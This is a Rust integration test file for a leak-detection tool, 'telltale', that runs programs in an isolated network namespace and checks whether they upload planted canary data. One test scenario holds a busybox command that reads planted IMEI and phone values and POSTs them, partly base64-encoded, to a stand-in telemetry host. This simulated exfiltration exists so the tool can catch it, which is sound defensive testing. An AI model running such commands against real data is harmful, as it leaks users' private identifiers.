@@ -1,0 +1,346 @@
+//! `kind: netns` end to end through `telltale run`: host programs in a fresh network namespace
+//! whose only network is the vnet. Busybox clients upload planted canaries; a real program
+//! (Chromium, headless, on about:blank) phones home on its own; a program that never gets
+//! ready fails the run; without root nothing starts. After every run no namespace, TAP or
+//! process of the run is left.
+//!
+//! Needs root, `ip` (iproute2), `nsenter` (util-linux) and busybox; the Chromium test needs
+//! `chromium`. `.ci/run` has all of them; elsewhere each test says why it is skipped.
+
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+use std::sync::Mutex;
+
+use serde_json::Value;
+
+/// The tests compare the host's namespaces and interfaces before and after: one at a time.
+static SERIAL: Mutex<()> = Mutex::new(());
+
+fn bin() -> &'static str {
+    env!("CARGO_BIN_EXE_telltale")
+}
+
+fn on_path(tool: &str) -> bool {
+    std::env::var_os("PATH")
+        .map(|p| std::env::split_paths(&p).any(|d| d.join(tool).is_file()))
+        .unwrap_or(false)
+}
+
+fn is_root() -> bool {
+    std::fs::read_to_string("/proc/self/status")
+        .unwrap_or_default()
+        .lines()
+        .find(|l| l.starts_with("Uid:"))
+        .and_then(|l| l.split_whitespace().nth(2).map(|u| u == "0"))
+        .unwrap_or(false)
+}
+
+fn unsupported(extra: &[&str]) -> Option<String> {
+    if !is_root() {
+        return Some("needs root (network namespaces, TAP devices); `.ci/run` runs as root".into());
+    }
+    for tool in ["ip", "nsenter", "busybox"].iter().chain(extra) {
+        if !on_path(tool) {
+            return Some(format!(
+                "needs `{tool}` (Debian: iproute2, util-linux, busybox-static, chromium); `.ci/run` installs it"
+            ));
+        }
+    }
+    None
+}
+
+macro_rules! skip_unless {
+    ($($tool:expr),*) => {
+        if let Some(why) = unsupported(&[$($tool),*]) {
+            assert!(
+                std::env::var_os("TELLTALE_REQUIRE_ALL_TESTS").is_none(),
+                "TELLTALE_REQUIRE_ALL_TESTS is set but this test cannot run: {why}"
+            );
+            eprintln!("SKIPPED {}: {}", module_path!(), why);
+            return;
+        }
+    };
+}
+
+fn workdir(tag: &str) -> PathBuf {
+    let d = PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
+        .join(format!("netns-{tag}-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&d);
+    std::fs::create_dir_all(&d).unwrap();
+    d
+}
+
+fn text(o: &Output) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+fn report(dir: &Path) -> Value {
+    let t = std::fs::read_to_string(dir.join("report.json"))
+        .unwrap_or_else(|e| panic!("{}/report.json: {e}", dir.display()));
+    serde_json::from_str(&t).unwrap()
+}
+
+/// What a run could leave behind on the host: namespaces, `tt*` interfaces, processes whose
+/// command line carries `marker`.
+#[derive(Debug, PartialEq, Eq)]
+struct HostState {
+    namespaces: BTreeSet<String>,
+    interfaces: BTreeSet<String>,
+    processes: Vec<u32>,
+}
+
+fn host_state(marker: &str) -> HostState {
+    let ns = Command::new("ip").args(["netns", "list"]).output().unwrap();
+    let namespaces = String::from_utf8_lossy(&ns.stdout)
+        .lines()
+        .filter_map(|l| l.split_whitespace().next().map(str::to_string))
+        .collect();
+    let interfaces = std::fs::read_dir("/sys/class/net")
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with("tt"))
+        .collect();
+    let mut processes = Vec::new();
+    for e in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
+            continue;
+        };
+        let cmd = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
+        if String::from_utf8_lossy(&cmd).contains(marker) {
+            processes.push(pid);
+        }
+    }
+    HostState {
+        namespaces,
+        interfaces,
+        processes,
+    }
+}
+
+/// Runs `telltale run SCENARIO --out OUT` and checks that it left nothing behind.
+fn run_clean(scenario: &Path, out: &Path, marker: &str) -> Output {
+    let before = host_state(marker);
+    assert!(before.processes.is_empty(), "{before:?}");
+    let o = Command::new(bin())
+        .args([
+            "run",
+            scenario.to_str().unwrap(),
+            "--out",
+            out.to_str().unwrap(),
+        ])
+        .output()
+        .unwrap();
+    let after = host_state(marker);
+    assert_eq!(after, before, "the run left something behind\n{}", text(&o));
+    o
+}
+
+/// Upload findings as (canary, encoding, destination, request, phase).
+fn uploads(r: &Value) -> Vec<(String, String, String, String, String)> {
+    r["analysis"]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["direction"] == "up")
+        .map(|f| {
+            let s = |k: &str| f[k].as_str().unwrap_or("").to_string();
+            (
+                s("canary"),
+                s("encoding"),
+                s("destination"),
+                format!("{} {}", s("http_method"), s("http_path")),
+                s("phase"),
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn busybox_clients_in_a_namespace_are_caught_uploading_planted_canaries() {
+    skip_unless!();
+    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let dir = workdir("busybox");
+    let marker = format!("tt-netns-agent-{}", std::process::id());
+    let scenario = dir.join("agent.yaml");
+    std::fs::write(
+        &scenario,
+        format!(
+            r#"name: netns-agent
+target:
+  kind: netns
+  command: [busybox, sh, -c, 'echo "agent: ready"; while [ ! -f imei ]; do sleep 0.2; done; busybox wget -q -O- --post-data "imei=$(cat imei)&phone=$(busybox base64 phone)" http://telemetry.vendor.example/v1/collect; echo; echo "agent: sent"; sleep 600', {marker}]
+  boot_timeout: 20s
+identity:
+  seed: 7
+steps:
+  - wait_for: "agent: ready"
+  - phase: consent_declined
+  - plant: {{path: phone, content: "{{{{phone}}}}"}}
+  - plant: {{path: imei, content: "{{{{imei}}}}"}}
+  - wait_for: "agent: sent"
+    timeout: 20s
+  - shell: busybox nslookup tracker.vendor.example
+    expect_output: "198\\.1[89]\\."
+policy:
+  forbid:
+    - canaries: all
+      phases: [consent_declined]
+"#
+        ),
+    )
+    .unwrap();
+    let out = dir.join("out");
+    let o = run_clean(&scenario, &out, &marker);
+    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
+    let r = report(&out.join("netns-agent"));
+    assert_eq!(r["verdict"], "fail");
+    let up = uploads(&r);
+    for (canary, enc) in [("imei", "raw"), ("phone", "base64")] {
+        assert!(
+            up.iter().any(|u| u.0 == canary
+                && u.1 == enc
+                && u.2 == "telemetry.vendor.example"
+                && u.3 == "POST /v1/collect"
+                && u.4 == "consent_declined"),
+            "{canary} {enc}: {up:#?}"
+        );
+    }
+    assert!(r["steps"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .all(|s| s["outcome"] == "ok"));
+    let events = r["vnet"]["events"].as_array().unwrap();
+    assert!(
+        events
+            .iter()
+            .any(|e| e["event"] == "dns" && e["name"] == "tracker.vendor.example"),
+        "the shell step's lookup went to telltale: {events:#?}"
+    );
+    let console = std::fs::read_to_string(out.join("netns-agent/console.log")).unwrap();
+    assert!(
+        console.contains("agent: ready") && console.contains("agent: sent"),
+        "{console}"
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+#[test]
+fn chromium_phones_home_on_its_own_from_about_blank() {
+    skip_unless!("chromium");
+    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let dir = workdir("chromium");
+    let marker = format!("tt-netns-chromium-{}", std::process::id());
+    let scenario = dir.join("chromium.yaml");
+    // No flags that quiet Chromium's own traffic: what it does on its own is the point.
+    std::fs::write(
+        &scenario,
+        format!(
+            r#"name: netns-chromium
+target:
+  kind: netns
+  command: [chromium, --headless, --no-sandbox, --disable-gpu, --no-first-run, --user-data-dir=profile, --class={marker}, about:blank]
+identity:
+  values: {{email: alice.canary@example.invalid}}
+steps:
+  - idle: 25s
+"#
+        ),
+    )
+    .unwrap();
+    let out = dir.join("out");
+    let o = run_clean(&scenario, &out, &marker);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    let r = report(&out.join("netns-chromium"));
+    let names: BTreeSet<String> = r["vnet"]["events"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|e| e["event"] == "dns" || e["event"] == "tls")
+        .filter_map(|e| e["name"].as_str().or(e["sni"].as_str()).map(str::to_string))
+        .collect();
+    assert!(
+        names.iter().any(|n| n.ends_with(".google.com")
+            || n.ends_with(".googleapis.com")
+            || n.ends_with(".gvt1.com")),
+        "Chromium looked up no Google host on its own: {names:?}"
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+#[test]
+fn a_program_that_never_gets_ready_fails_the_run_and_leaves_nothing() {
+    skip_unless!();
+    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let dir = workdir("never");
+    let marker = format!("tt-netns-never-{}", std::process::id());
+    let scenario = dir.join("never.yaml");
+    // The program starts a child of its own (in the background) that would outlive a plain kill.
+    std::fs::write(
+        &scenario,
+        format!(
+            "name: never\ntarget:\n  kind: netns\n  command: [busybox, sh, -c, 'busybox sleep 600 & echo starting; busybox sleep 600', {marker}]\n  boot_timeout: 3s\nidentity: {{seed: 1}}\nsteps:\n  - wait_for: never printed\n"
+        ),
+    )
+    .unwrap();
+    let out = dir.join("out");
+    let o = run_clean(&scenario, &out, &marker);
+    let all = text(&o);
+    assert_eq!(o.status.code(), Some(3), "{all}");
+    assert!(
+        all.contains("timed out after 3s") && all.contains("starting"),
+        "{all}"
+    );
+    let r = report(&out.join("never"));
+    assert_eq!(r["verdict"], "error");
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+#[test]
+fn without_root_nothing_starts_and_the_message_says_why() {
+    skip_unless!("setpriv");
+    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let dir = PathBuf::from(format!("/tmp/tt-noroot-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    let marker = format!("tt-netns-noroot-{}", std::process::id());
+    std::fs::write(
+        dir.join("s.yaml"),
+        format!("name: noroot\ntarget:\n  kind: netns\n  command: [busybox, sleep, '600', {marker}]\nidentity: {{seed: 1}}\nsteps:\n  - idle: 1s\n"),
+    )
+    .unwrap();
+    Command::new("chmod")
+        .args(["-R", "a+rwX", dir.to_str().unwrap()])
+        .status()
+        .unwrap();
+    let before = host_state(&marker);
+    let o = Command::new("setpriv")
+        .args([
+            "--reuid=65534",
+            "--regid=65534",
+            "--clear-groups",
+            bin(),
+            "run",
+        ])
+        .arg(dir.join("s.yaml"))
+        .arg("--out")
+        .arg(dir.join("out"))
+        .output()
+        .unwrap();
+    let all = text(&o);
+    assert_eq!(o.status.code(), Some(3), "{all}");
+    assert!(all.contains("needs root"), "{all}");
+    assert!(all.contains("nothing was started"), "{all}");
+    assert_eq!(host_state(&marker), before);
+    assert!(
+        !dir.join("out/noroot/capture.pcap").exists(),
+        "the network was started"
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
